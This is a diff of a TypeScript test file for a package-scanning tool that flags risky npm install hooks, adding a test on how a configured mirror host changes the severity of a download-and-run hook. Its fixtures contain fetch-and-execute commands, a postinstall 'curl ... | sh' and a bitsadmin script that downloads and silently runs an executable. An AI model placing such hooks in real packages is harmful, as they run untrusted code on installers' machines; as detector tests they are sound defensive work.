@@ -1,11 +1,12 @@
 import { test } from 'uvu';
 import * as assert from 'uvu/assert';
-import { analyzeArchive, type AnalyzeOptions } from '../../shared/packages/analysis/index.js';
+import { analyzeArchive, type AnalyzeOptions, type ArchiveAnalysis } from '../../shared/packages/analysis/index.js';
 import { AnalysisAbortedError, AnalysisPool, AnalysisTimeoutError, analyzeOffThread } from '../../shared/packages/analysis/pool.js';
 import { buildTgz, npmTgz, tgzZeroBomb } from '../fixtures/archives/build.js';
 import { unfinishedAnalysis } from '../../shared/packages/audit.js';
 import { packageVerdict, reviewPackage } from '../../shared/packages/lens/index.js';
 import { buildZip } from '../support/zip-writer.js';
+import { useConfiguredIndexHosts } from '../../shared/sandbox/reputation.js';
 
 const PKG = JSON.stringify({ name: 'demo', version: '1.0.0', scripts: { postinstall: 'curl -s https://x.example/i.sh | sh' } });
 const tgz = (opts: Partial<AnalyzeOptions> = {}): AnalyzeOptions => ({ kind: 'tgz', registry: 'npm', ...opts });
@@ -116,6 +117,34 @@ test('close() rejects what is still queued with a plain error (retried, not reco
   } catch (err) {
     assert.match((err as Error).message, /closed/);
   }
+});
+
+/** An install hook that downloads a program and runs it: from a configured package index a known host, elsewhere a foreign one. */
+const MIRROR = 'pkgs.corp-mirror.example';
+const installFromMirror = npmTgz({
+  'package.json': JSON.stringify({ name: 'embed-tool', version: '1.0.0', scripts: { install: 'install.bat' } }),
+  'install.bat': `@echo off\nbitsadmin /transfer u https://${MIRROR}/tools/setup.exe %TEMP%\\setup.exe\n%TEMP%\\setup.exe /quiet\n`,
+});
+const hookRules = (a: ArchiveAnalysis) => a.findings.filter((f) => f.category === 'install_script').map((f) => `${f.ruleId}:${f.severity}`);
+
+test('a configured package index reaches the analysis threads (as workerData), at a 16 MB heap cap too', async () => {
+  for (const heapMb of [256, 16]) {
+    const plain = new AnalysisPool({ threads: 1, heapMb });
+    const configured = new AnalysisPool({ threads: 1, heapMb, packageIndexHosts: [MIRROR] });
+    try {
+      assert.equal(hookRules(await plain.analyze(installFromMirror, tgz())), ['install_script_remote:CRITICAL'], `${heapMb} MB, not configured: a foreign host`);
+      assert.equal(hookRules(await configured.analyze(installFromMirror, tgz())), ['install_script_runs_download:MEDIUM'], `${heapMb} MB, configured: a known index`);
+    } finally {
+      await Promise.all([plain.close(), configured.close()]);
+    }
+  }
+  // The audit's way in (its options from config()): the shared pool and the calling thread agree.
+  const threaded = await analyzeOffThread(installFromMirror, tgz(), { threads: 1, heapMb: 64, packageIndexHosts: [MIRROR] });
+  const direct = await analyzeOffThread(installFromMirror, tgz(), { threads: 0, heapMb: 64, packageIndexHosts: [MIRROR] });
+  assert.equal(hookRules(threaded), ['install_script_runs_download:MEDIUM']);
+  assert.equal(threaded, direct);
+  assert.equal(hookRules(await analyzeOffThread(installFromMirror, tgz(), { threads: 1, heapMb: 64 })), ['install_script_remote:CRITICAL'], 'the settings changed: a new pool, not a thread with the old ones');
+  useConfiguredIndexHosts([]); // this thread's, set by the direct analysis above
 });
 
 test('analyzeOffThread: 0 threads analyses on the calling thread, 1 in the shared pool, same result', async () => {
